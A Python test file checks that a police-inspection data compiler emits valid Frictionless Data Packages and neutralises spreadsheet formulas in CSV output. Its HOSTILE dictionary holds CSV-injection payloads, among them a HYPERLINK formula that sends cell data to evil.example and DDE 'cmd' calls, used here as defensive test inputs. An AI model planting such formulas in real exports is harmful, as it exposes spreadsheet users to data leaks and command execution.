"""A round's open data: a valid Frictionless Data Package, and CSV cells no spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from pathlib import Path

import frictionless  # the test extra's: a missing one fails the run rather than skipping it
import pytest
from typer.testing import CliRunner

from hmic_compile.cli import app
from hmic_compile.report.tables import FORMULA_START, GRADES, csv_bytes, json_bytes, neutralise

from .test_round import PROJECTS, national_project

# Cells a spreadsheet would run (OWASP, CSV injection), as names a force could have.
HOSTILE = {
    "alpha": '=hyperlink("http://evil.example/?"&a1,"click")',
    "bravo": "+1+cmd|' /c calc'!a0",
    "charlie": "-2+3",
    "delta": "@sum(1+1)*cmd|' /c calc'!a0",
}


def _build(root: Path, out: Path) -> Path:
    r = CliRunner().invoke(app, ["build", "--root", str(root), "--out", str(out)])
    assert r.exit_code == 0, r.output
    return out


def _validate(data: Path) -> None:
    report = frictionless.validate(str(data / "datapackage.json"))
    errors = [f"{t.name}: {e.type}: {e.note}" for t in report.tasks for e in t.errors] + [e.message for e in report.errors]
    assert report.valid, "\n".join(errors)


@pytest.mark.parametrize("key", sorted(PROJECTS))
def test_the_data_package_is_valid(key: str, tmp_path: Path) -> None:
    data = _build(PROJECTS[key], tmp_path / "out") / key / "data"
    _validate(data)
    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    assert package["profile"] == "tabular-data-package"
    assert sorted(r["name"] for r in package["resources"]) == sorted(
        f"{n}-{f}" for n in ("grades", "distributions", "judgements") for f in ("csv", "json")
    )
    for r in package["resources"]:
        raw = (data / r["path"]).read_bytes()
        raw.decode("utf-8")  # UTF-8 throughout
        assert r["hash"] == "sha256:" + hashlib.sha256(raw).hexdigest() and r["encoding"] == "utf-8"
        assert r.get("bytes", len(raw)) == len(raw)
        if r["format"] == "csv":
            header = next(csv.reader(io.StringIO(raw.decode("utf-8"))))
            assert header == [f["name"] for f in r["schema"]["fields"]]  # a header row, in the schema's order


def test_a_tampered_file_fails_validation(tmp_path: Path) -> None:
    data = _build(PROJECTS["2024"], tmp_path / "out") / "2024" / "data"
    grades = data / "grades.csv"
    grades.write_text(grades.read_text(encoding="utf-8").replace(',2,"Requires', ',"two","Requires', 1), encoding="utf-8")
    report = frictionless.validate(str(data / "datapackage.json"))
    assert not report.valid  # the hash and the integer column both catch it


@pytest.mark.parametrize(
    ("file", "old", "new"),
    [
        ("grades.csv", '"Public contact","Good",2,', '"Public contact","Superb",2,'),  # a grade off the scale
        ("grades.csv", '"Public contact","Good",2,', '"Public contact","Good",7,'),  # a rank past its end
        ("distributions.csv", ",60.0,", ",160.0,"),  # over 100 per cent
        ("judgements.csv", '"met","pc-answer-times"', '"mostly met","pc-answer-times"'),  # no such judgement
    ],
)
def test_the_schema_holds_the_framework_s_own_values(tmp_path: Path, file: str, old: str, new: str) -> None:
    data = _build(PROJECTS["2024"], tmp_path / "out") / "2024" / "data"
    _validate(data)
    text = (data / file).read_bytes().decode("utf-8")
    assert old in text
    (data / file).write_bytes(text.replace(old, new, 1).encode("utf-8"))
    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    for r in package["resources"]:  # the hash would catch any change: the schema alone must catch this one
        r.pop("hash"), r.pop("bytes", None)
    (data / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    report = frictionless.validate(str(data / "datapackage.json"))
    assert not report.valid
    assert {e.type for t in report.tasks for e in t.errors} == {"constraint-error"}


def test_the_csv_and_json_hold_the_same_rows_in_a_stable_order(tmp_path: Path) -> None:
    data = _build(PROJECTS["peel-2021"], tmp_path / "out") / "peel-2021" / "data"
    rows = list(csv.DictReader(io.StringIO((data / "grades.csv").read_text(encoding="utf-8"))))
    items = json.loads((data / "grades.json").read_text(encoding="utf-8"))
    assert [(r["force"], r["area"]) for r in rows] == [(i["force"], i["area"]) for i in items]
    assert [r["force"] for r in rows] == sorted(r["force"] for r in rows)
    mercia = [i for i in items if i["force"] == "mercia"]
    assert {i["area"]: (i["grade"], i["grade_rank"], i["inspected"]) for i in mercia}["managing-offenders"] == (None, None, False)
    assert all(isinstance(i["grade_rank"], int) for i in items if i["grade"])


def test_no_cell_becomes_a_formula(tmp_path: Path) -> None:
    root = national_project(tmp_path)
    for key, name in HOSTILE.items():
        force = root / "evidence" / f"{key}-2024" / "force.yaml"
        text = force.read_text(encoding="utf-8").replace(f"name: {key.title()} Police", "name: " + json.dumps(name))
        force.write_text(text, encoding="utf-8")
    data = _build(root, tmp_path / "out") / "2024" / "data"
    text = (data / "grades.csv").read_text(encoding="utf-8")
    names = {r["force"]: r["force_name"] for r in csv.DictReader(io.StringIO(text))}
    for key, name in HOSTILE.items():
        assert names[key] == "'" + name  # a leading single quote: text, never a formula
    assert names["echo"] == "Echo Police"
    for line in text.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(FORMULA_START), cell
    # every text cell is quoted; the numbers are bare, and stay numbers
    assert '"alpha","\'=hyperlink(""http://evil.example/?""&a1,""click"")","public-contact","Public contact","Good",2,' in text
    json_names = {i["force"]: i["force_name"] for i in json.loads((data / "grades.json").read_text(encoding="utf-8"))}
    assert json_names["alpha"] == HOSTILE["alpha"]  # JSON holds the value as it is
    _validate(data)
    page = (tmp_path / "out" / "2024" / "index.html").read_text(encoding="utf-8")
    assert "=hyperlink(&#34;http://evil.example/?&#34;&amp;a1,&#34;click&#34;)" in page  # escaped in the HTML


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    row = {f.name: None for f in GRADES} | {"force": f"{start}x", "force_name": "a\nb", "grade_rank": 3, "inspected": True}
    out = csv_bytes(GRADES, [row]).decode("utf-8")
    cells = list(csv.reader(io.StringIO(out)))[1]
    assert cells[0] == f"'{start}x" and cells[1] == "a\nb" and cells[5] == "3" and cells[8] == "true"
    assert out.endswith("\r\n") and ",3," in out  # RFC 4180 line ends; the number unquoted


def test_json_is_one_row_to_a_line_and_holds_every_value_as_it_is() -> None:
    rows = [{"force": "=x", "n": 1, "note": "a\nb ##[error] \u202e"}, {"force": "b", "n": None, "note": "Café"}]
    data = json_bytes(rows)
    assert json.loads(data) == rows  # nothing neutralised, nothing lost
    lines = data.decode("utf-8").split("\n")
    assert lines[0] == "[" and lines[-2:] == ["]", ""] and len(lines) == 2 + len(rows) + 1
    assert "Café" in lines[2] and "\\u202e" in lines[1] and "##[" not in lines[1]  # no direction override or workflow command raw
    assert json_bytes([]) == b"[]\n"
    assert json_bytes([], ["force", "area"]) == b'[["force", "area"]]\n'  # a table with no rows: its header alone


def test_a_framework_without_national_results_still_has_a_valid_data_package(tmp_path: Path) -> None:
    """A new framework (`hmic new framework` copies no national results): no distributions to publish, yet
    every file of the package, the empty one too, is tabular data frictionless reads; the index says why."""
    root = tmp_path / "project"
    shutil.copytree(PROJECTS["2024"], root)
    (root / "criteria" / "2024" / "national-results.yaml").unlink()
    out = _build(root, tmp_path / "out") / "2024"
    _validate(out / "data")
    resources = json.loads((out / "data" / "datapackage.json").read_text(encoding="utf-8"))["resources"]
    described = next(r for r in resources if r["name"] == "distributions-json")
    header = [f["name"] for f in described["schema"]["fields"]]
    assert json.loads((out / "data" / "distributions.json").read_text(encoding="utf-8")) == [header]
    index = (out / "index.md").read_text(encoding="utf-8")
    assert "The framework has no national results, so the grades of the other" in index
    assert "published as totals only" not in index


def test_text_that_only_looks_odd_is_left_alone() -> None:
    for text in ("Good", "1 in 3", "a=b", "Requires improvement", "'quoted", " =leading space", ""):
        assert neutralise(text) == text


def test_the_package_names_its_sources_and_keys(tmp_path: Path) -> None:
    root = tmp_path / "p"
    shutil.copytree(PROJECTS["2007"] / "criteria", root / "criteria")
    shutil.copytree(PROJECTS["2007"] / "evidence", root / "evidence")
    data = _build(root, tmp_path / "out") / "2007" / "data"
    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    assert package["name"] == "hmic-round-2007"
    assert package["sources"][0]["title"].startswith("HMIC Inspection Report, Norfolk Constabulary, October 2007")
    judgements = next(r for r in package["resources"] if r["name"] == "judgements-csv")
    assert judgements["schema"]["primaryKey"] == ["force", "area", "criterion"]
    assert judgements["schema"]["foreignKeys"][0]["reference"] == {"resource": "grades-csv", "fields": ["force", "area"]}
